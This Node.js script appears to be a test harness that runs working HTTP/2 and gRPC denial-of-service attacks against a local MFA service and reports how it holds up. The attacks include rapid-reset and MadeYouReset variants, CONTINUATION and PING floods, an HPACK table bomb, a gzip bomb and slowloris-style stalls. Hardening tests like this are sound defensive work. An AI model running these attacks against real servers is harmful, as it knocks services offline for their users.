// Usage: node attacks.mjs ATTACK PORT AUTHORITY.pem KEY. Does it to the server, and prints as JSON how it ended.
import fs from "node:fs";
import http2 from "node:http2";
import net from "node:net";
import tls from "node:tls";
import zlib from "node:zlib";
import * as h from "./frames.mjs";

const [attack, port, authorityFile, key] = process.argv.slice(2);
const authority = fs.readFileSync(authorityFile);
const authorization = `Bearer ${key}`;
const path = "/mfa.v1.MfaService/GetStatus";
const request = Buffer.from([0, 0, 0, 0, 3, 0x0a, 1, 0x61]); // account "a", in gRPC's five bytes of framing

const MANY = 20_000;
const PATIENCE = 60_000; // only a server that never acts gets there, and is reported as open

const connect = (options) => h.Connection.open({ port, authority, ...options });
const headers = (stream, flags = 0, more = []) => h.frame(h.HEADERS, h.END_HEADERS | flags, stream, h.call(path, authorization, more));
const data = (stream, flags = 0, bytes = request) => h.frame(h.DATA, flags, stream, bytes);
const closing = (connection) => connection.until(() => false);

// Rapid reset (CVE-2023-44487), and the ways to make the server reset the stream itself (MadeYouReset, CVE-2025-8671).
const resets = {
  "reset": (s) => [headers(s), h.frame(h.RST_STREAM, 0, s, h.number(8))],
  "reset-after-request": (s) => [headers(s), data(s, h.END_STREAM), h.frame(h.RST_STREAM, 0, s, h.number(8))],
  "window-update-of-zero": (s) => [headers(s), h.frame(h.WINDOW_UPDATE, 0, s, h.number(0))],
  "window-overflow": (s) => [headers(s), h.frame(h.WINDOW_UPDATE, 0, s, h.number(0x7fffffff))],
  "data-after-end": (s) => [headers(s), data(s, h.END_STREAM), data(s, h.END_STREAM)],
  "headers-after-end": (s) => [headers(s, h.END_STREAM), headers(s, h.END_STREAM)],
  "priority-on-itself": (s) => [headers(s), h.frame(h.PRIORITY, 0, s, Buffer.concat([h.number(s), Buffer.from([1])]))],
  "priority-cut-short": (s) => [headers(s), h.frame(h.PRIORITY, 0, s, Buffer.from([1]))],
  "header-in-capitals": (s) => [headers(s, h.END_STREAM, [["Capital", "x"]])],
  "longer-than-announced": (s) => [headers(s, 0, [["content-length", "1"]]), data(s, h.END_STREAM)],
  "no-path": (s) => [h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, s, h.literal(":method", "GET"))],
};

async function resetMany(frames) {
  const connection = await connect();
  let sent = 0;
  while (sent < MANY && (await connection.sendAll(Buffer.concat(frames(1 + 2 * sent))))) {
    if (++sent % 1000 === 0) await readSoFar(connection, sent / 1000); // or a busy machine's buffers would take all of it
  }
  await closing(connection);
  return { ...connection.end, sent };
}

// The server has read what was sent before, or is gone.
async function readSoFar(connection, times) {
  connection.send(h.frame(h.PING, 0, 0, Buffer.alloc(8)));
  await connection.until((c) => c.count(h.PING) >= times);
}

async function flood(first, frame) {
  const connection = await connect();
  connection.send(first);
  const many = Buffer.concat(Array.from({ length: 100 }, () => frame));
  let sent = 0;
  while (await connection.sendAll(many)) sent += 100;
  await closing(connection);
  return { ...connection.end, sent };
}

// Asks for answers and never reads them: a server that keeps them all runs out of memory. It must stop reading, or close.
async function floodUnread(frame) {
  const connection = await connect();
  connection.socket.pause();
  const many = Buffer.concat(Array.from({ length: 1000 }, () => frame));
  let taken = true;
  for (let bytes = 0; taken && bytes < 1 << 30; bytes += many.length) {
    if (connection.closed || !connection.socket.writable) break;
    if (connection.socket.write(many)) continue;
    taken = await new Promise((resolve) => {
      connection.socket.once("drain", () => resolve(true)).once("close", () => resolve(false));
      setTimeout(resolve, 2_000, false);
    });
  }
  connection.socket.destroy();
  return { closed: !taken };
}

// A call as a proper client makes it, by Node's own HTTP/2.
async function answer(more, body, end = true) {
  const session = http2.connect(`https://127.0.0.1:${port}`, { ca: authority });
  session.on("error", () => {});
  try {
    return await new Promise((resolve, reject) => {
      const stream = session.request({
        ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers", authorization, ...more,
      });
      let head = {};
      const told = {};
      stream.on("response", (fields) => Object.assign(told, fields, (head = fields)));
      stream.on("trailers", (fields) => Object.assign(told, fields));
      stream.on("error", reject);
      const tell = () => resolve({ http: head[":status"], status: told["grpc-status"], headers: told });
      stream.on("end", tell).on("close", tell);
      stream.resume();
      stream.write(body);
      if (end) stream.end();
    });
  } catch (error) {
    return { error: error.code ?? error.message };
  } finally {
    session.destroy();
  }
}

function framed(message, compressed = 0) {
  const head = Buffer.alloc(5);
  head[0] = compressed;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

// Everything that begins and does not go on, at once.
async function slow() {
  const ends = {};
  const beginAndWait = async (name, begin) => {
    const connection = await connect();
    await begin(connection);
    await closing(connection);
    ends[name] = connection.closed;
  };
  const silent = (name, bytes) => new Promise((resolve) => {
    const socket = net.connect({ host: "127.0.0.1", port }, () => socket.write(bytes));
    socket.on("error", () => {}).on("close", () => resolve((ends[name] = true))).resume();
  });
  const begunAndLeft = (name, bytes) => new Promise((resolve) => {
    const socket = tls.connect({ host: "127.0.0.1", port, ca: authority, ALPNProtocols: ["h2"] }, () => socket.write(bytes));
    socket.on("error", () => {}).on("close", () => resolve((ends[name] = true))).resume();
  });
  const large = framed(Buffer.alloc(60_000));
  await Promise.all([
    silent("no hello", Buffer.alloc(0)),
    silent("half a hello", Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01])),
    begunAndLeft("no preface", Buffer.alloc(0)),
    begunAndLeft("half a preface", Buffer.from("PRI * HTTP/2.0\r\n")),
    beginAndWait("no call", () => {}),
    beginAndWait("half a header frame", (c) => c.send(headers(1).subarray(0, 30))),
    beginAndWait("headers without an end", (c) => c.send(h.frame(h.HEADERS, 0, 1, h.call(path, authorization)))),
    beginAndWait("no body", (c) => c.send(headers(1))),
    beginAndWait("half a data frame", (c) => c.send(headers(1), data(1, h.END_STREAM).subarray(0, 12))),
    beginAndWait("half a message", (c) => c.send(headers(1), data(1, 0, request.subarray(0, 6)))),
    beginAndWait("a byte at a time", (c) => {
      let at = 0;
      c.send(headers(1));
      const drip = setInterval(() => (c.closed ? clearInterval(drip) : c.send(data(1, 0, large.subarray(at, ++at)))), 50);
    }),
  ]);
  return ends;
}

// So many streams that all wait for a body.
async function streams(count) {
  const connection = await connect();
  for (let i = 0; i < count; i++) connection.send(headers(1 + 2 * i));
  const over = (c) => c.count(h.RST_STREAM, 7) + c.count(h.RST_STREAM, 11);
  await connection.until((c) => over(c) >= count - 100);
  const refused = over(connection);
  connection.socket.destroy();
  return { refused, closed: connection.closed || connection.end.error !== null };
}

// So many connections that do nothing; tells how many the server holds after it has dealt with all.
async function connections(count) {
  const sockets = [];
  let refused = 0, settled = 0;
  await new Promise((resolve) => {
    const settle = () => ++settled === count && resolve();
    for (let i = 0; i < count; i++) {
      const socket = tls.connect({ host: "127.0.0.1", port, ca: authority, ALPNProtocols: ["h2"] });
      sockets.push(socket);
      socket.once("secureConnect", settle).on("error", () => {}).once("close", () => { refused++; if (!socket.getProtocol()) settle(); });
    }
  });
  process.stdout.write(JSON.stringify({ refused, held: count - refused }) + "\n");
  await new Promise((resolve) => process.stdin.once("end", resolve).resume());
  for (const socket of sockets) socket.destroy();
}

const attacks = {
  ...Object.fromEntries(Object.entries(resets).map(([name, frames]) => [name, () => resetMany(frames)])),
  "continuation-flood": () => flood(h.frame(h.HEADERS, 0, 1, h.call(path, authorization)), h.frame(h.CONTINUATION, 0, 1, h.literal("x", "y".repeat(1000)))),
  "empty-continuation-flood": () => flood(h.frame(h.HEADERS, 0, 1, h.call(path, authorization)), h.frame(h.CONTINUATION, 0, 1)),
  "empty-data-flood": () => flood(headers(1), data(1, 0, Buffer.alloc(0))),
  "table-bomb": async () => {
    const connection = await connect();
    const block = [h.call(path, authorization), h.indexed("x", "y".repeat(3000)), ...Array.from({ length: 8000 }, () => h.NEWEST)];
    connection.send(h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, 1, Buffer.concat(block)));
    await closing(connection);
    return connection.end;
  },
  "beyond-the-window": async () => {
    const connection = await connect();
    connection.send(headers(1), ...Array.from({ length: 100 }, () => data(1, 0, Buffer.alloc(16_384))));
    await closing(connection);
    return connection.end;
  },
  "ping-flood": () => floodUnread(h.frame(h.PING, 0, 0, Buffer.alloc(8))),
  "settings-flood": () => floodUnread(h.frame(h.SETTINGS, 0, 0)),
  "large-message": () => answer({}, framed(Buffer.alloc(64 * 1024 + 1))),
  "announced-large": () => answer({ "content-length": 3_000_000_000 }, request, false),
  "gzip-bomb": () => answer({ "grpc-encoding": "gzip" }, framed(zlib.gzipSync(Buffer.alloc(50 << 20)), 1)),
  "many-headers": () => answer(Object.fromEntries(Array.from({ length: 120 }, (_, i) => [`x-${i}`, "y"])), request),
  "long-header": () => answer({ "x-long": "y".repeat(40_000) }, request),
  "plain-call": () => answer({}, request),
  "slow": slow,
  "streams": () => streams(1000),
  "connections": () => connections(300),
};

const timer = setTimeout(() => { console.log(JSON.stringify({ hung: true })); process.exit(1); }, PATIENCE);
const result = await attacks[attack]();
if (result) console.log(JSON.stringify(result));
clearTimeout(timer);
process.exit(0);
